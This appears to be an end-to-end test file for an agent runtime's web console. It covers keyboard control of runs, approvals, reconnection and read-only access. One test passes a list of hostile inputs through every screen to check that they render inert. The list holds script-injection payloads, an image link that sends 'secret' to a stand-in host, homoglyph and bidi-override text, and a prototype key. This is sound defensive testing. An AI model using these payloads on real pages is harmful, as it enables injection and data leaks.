import type { Principal } from "reeve/server";
import { expect, test } from "vitest";
import { expectAccessible, keepPicture, pressIfShown, siteOf, visit } from "./open-page.ts";
import { askingAgent, reportTeam } from "./report-team.ts";

const texts = [
  '<img src=x onerror="alert(1)">',
  "<script>alert(2)</script>",
  "![pixel](https://px.example/?d=secret)",
  "[open](javascript:alert(3))",
  "{{constructor.constructor('alert(4)')()}}",
  "o.pump\u0435r@example.com",
  "left\u202Eright \u200Bhidden",
  "__proto__",
] as const;

test("the whole flow needs no mouse: start, approve, steer, pause, top up, cancel", async () => {
  const { agents, reviewing, sent } = reportTeam();
  const site = await siteOf(agents);
  const { page, faults } = await visit(site, "/runs");
  const { keyboard } = page;
  await page.getByRole("heading", { name: "Nothing has run yet" }).waitFor();
  await keyboard.press("n");
  const box = page.getByRole("textbox", { name: "Task" });
  await box.waitFor();
  await box.focus();
  await keyboard.type("Prepare the report");
  await keyboard.press("Enter");
  await page.getByText("May writer call send_email?").waitFor();
  await keepPicture(page, "playground-asks-light");
  await page.getByRole("log").focus();
  // A key press too soon after the question has no effect, so it is repeated until it counts.
  await expect
    .poll(async () => {
      await keyboard.press("a");
      return sent;
    })
    .toEqual(["team@example.com"]);
  await page.getByRole("button", { name: "Open the tree" }).focus();
  await keyboard.press("Enter");
  await page.getByRole("treegrid").waitFor();
  const [tree] = (await site.runtime.runs.list({ rootsOnly: true })).items;
  if (!tree) throw new Error("there is a tree");
  await keyboard.press("s");
  await page.getByRole("dialog", { name: "Steer lead" }).getByRole("textbox").fill("Be brief");
  await keyboard.press("Tab");
  await keyboard.press("Tab");
  await keyboard.press("Enter");
  await page.getByText("Steered: read before the next model call").waitFor();
  await keyboard.press("t");
  await page.getByRole("dialog", { name: "Top up lead" }).getByRole("spinbutton").fill("0.5");
  await keyboard.press("Enter");
  await page.getByText("free of $1.00").waitFor();
  await keyboard.press("p");
  await page.getByText("lead: pausing (stops before its next step)").waitFor();
  await keyboard.press("C");
  await page
    .getByRole("dialog", { name: /^Cancel lead/ })
    .getByRole("textbox")
    .fill("done");
  await keyboard.press("Enter");
  await page.getByText(/^Cancelled \d+ runs in /).waitFor();
  await expect
    .poll(async () => (await site.runtime.runs.list({ rootsOnly: true })).items[0]?.status)
    .toBe("cancelled");
  await page.locator(".head").getByText("cancelled").waitFor();
  expect(reviewing.calls).toHaveLength(1);
  await keyboard.press("g");
  await keyboard.press("r");
  await page.getByRole("heading", { name: "Runs" }).waitFor();
  expect(faults).toEqual([]);
});

test("a question of an agent is answered in the inbox", async () => {
  const planner = askingAgent();
  const site = await siteOf([planner]);
  const run = await site.runtime.start(planner, "Plan it", { id: "planning" });
  const { page, faults } = await visit(site, "/approvals");
  await page.getByText("When is the report sent?").waitFor();
  const friday = page.getByRole("button", { name: "Friday" });
  await expect
    .poll(async () => {
      await pressIfShown(friday);
      return (await site.runtime.approvals.list({ state: "decided" })).items.length;
    })
    .toBe(1);
  expect((await run.result()).output).toBe("Planned.");
  await page.getByText("Nothing waits for you").waitFor();
  expect(faults).toEqual([]);
});

test("text of models, tools and people is inert on every screen", async () => {
  const { agents, lead } = reportTeam(texts.join("\n"));
  const site = await siteOf(agents);
  await site.runtime.start(lead, texts.join("\n"), { id: "hostile", budget: { maxCostUsd: 1 } });
  const waiting = async (): Promise<number> =>
    (await site.runtime.approvals.list({ state: "pending" })).items.length;
  await expect.poll(waiting).toBe(1);
  const { page, faults } = await visit(site, "/approvals");
  await page.getByText("<script>alert(2)</script>").waitFor();
  await page.getByText("е is Cyrillic U+0435").waitFor();
  expect(await page.getByText("U+202E").count()).toBe(1);
  expect(await page.locator("main img, main script, main iframe").count()).toBe(0);
  const play = await visit(site, "/play/lead");
  await play.page.getByRole("textbox", { name: "Task" }).fill(texts.join(" "));
  await play.page.keyboard.press("Enter");
  await play.page.locator(".u").getByText("<script>alert(2)</script>").waitFor();
  const run = await visit(site, "/runs/hostile");
  await run.page.getByRole("treegrid").waitFor();
  const wrong = await visit(site, `/runs/${encodeURIComponent(texts[0])}`);
  await wrong.page.getByText("Nothing here that your key can see").waitFor();
  expect([...faults, ...play.faults, ...run.faults, ...wrong.faults]).toEqual([]);
});

test("when the server is gone the tree stays on the screen, and the stream later continues after its last event", async () => {
  const { agents, lead, reviewing } = reportTeam();
  const site = await siteOf(agents);
  await site.runtime.start(lead, "Prepare the report", { id: "report", budget: { maxCostUsd: 1 } });
  await expect.poll(() => reviewing.calls.length).toBe(1);
  const { page } = await visit(site, "/runs/report");
  await page.getByText("researcher ×7").waitFor();
  site.wire.cut();
  await page.getByText(/^The server has not answered for/).waitFor();
  await keepPicture(page, "run-lost-light");
  expect(await page.getByText("researcher ×7").isVisible()).toBe(true);
  reviewing.calls[0]?.answer("Good.");
  site.wire.mend();
  await page.getByText(/^The server has not answered for/).waitFor({ state: "detached" });
  const reviewer = page.getByRole("row", { name: /reviewer/ });
  await reviewer.getByText("completed").waitFor();
});

test("a key that may only read signs in, and sees locked actions with the reason", async () => {
  const { agents, lead } = reportTeam();
  const reader: Principal = { id: "reader", tenant: null, scopes: ["read"] };
  const auth = { authenticate: async (key: string) => (key === "read-only" ? reader : null) };
  const site = await siteOf(agents, auth);
  await site.runtime.start(lead, "Prepare the report", { id: "report" });
  const { page, faults } = await visit(site, "/runs/report");
  const field = page.getByLabel("API key");
  await field.fill("wrong");
  await field.press("Enter");
  await page.getByText("Unknown key.").waitFor();
  await expectAccessible(page);
  await keepPicture(page, "sign-in-light");
  await field.fill("read-only");
  await field.press("Enter");
  const cancel = page.getByRole("button", { name: "Cancel" });
  await cancel.waitFor();
  expect(await cancel.getAttribute("aria-disabled")).toBe("true");
  expect(await cancel.getAttribute("title")).toBe("Your key lacks the scope run");
  expect(await page.evaluate<string>("document.cookie")).toBe("");
  expect(faults).toEqual([]);
});
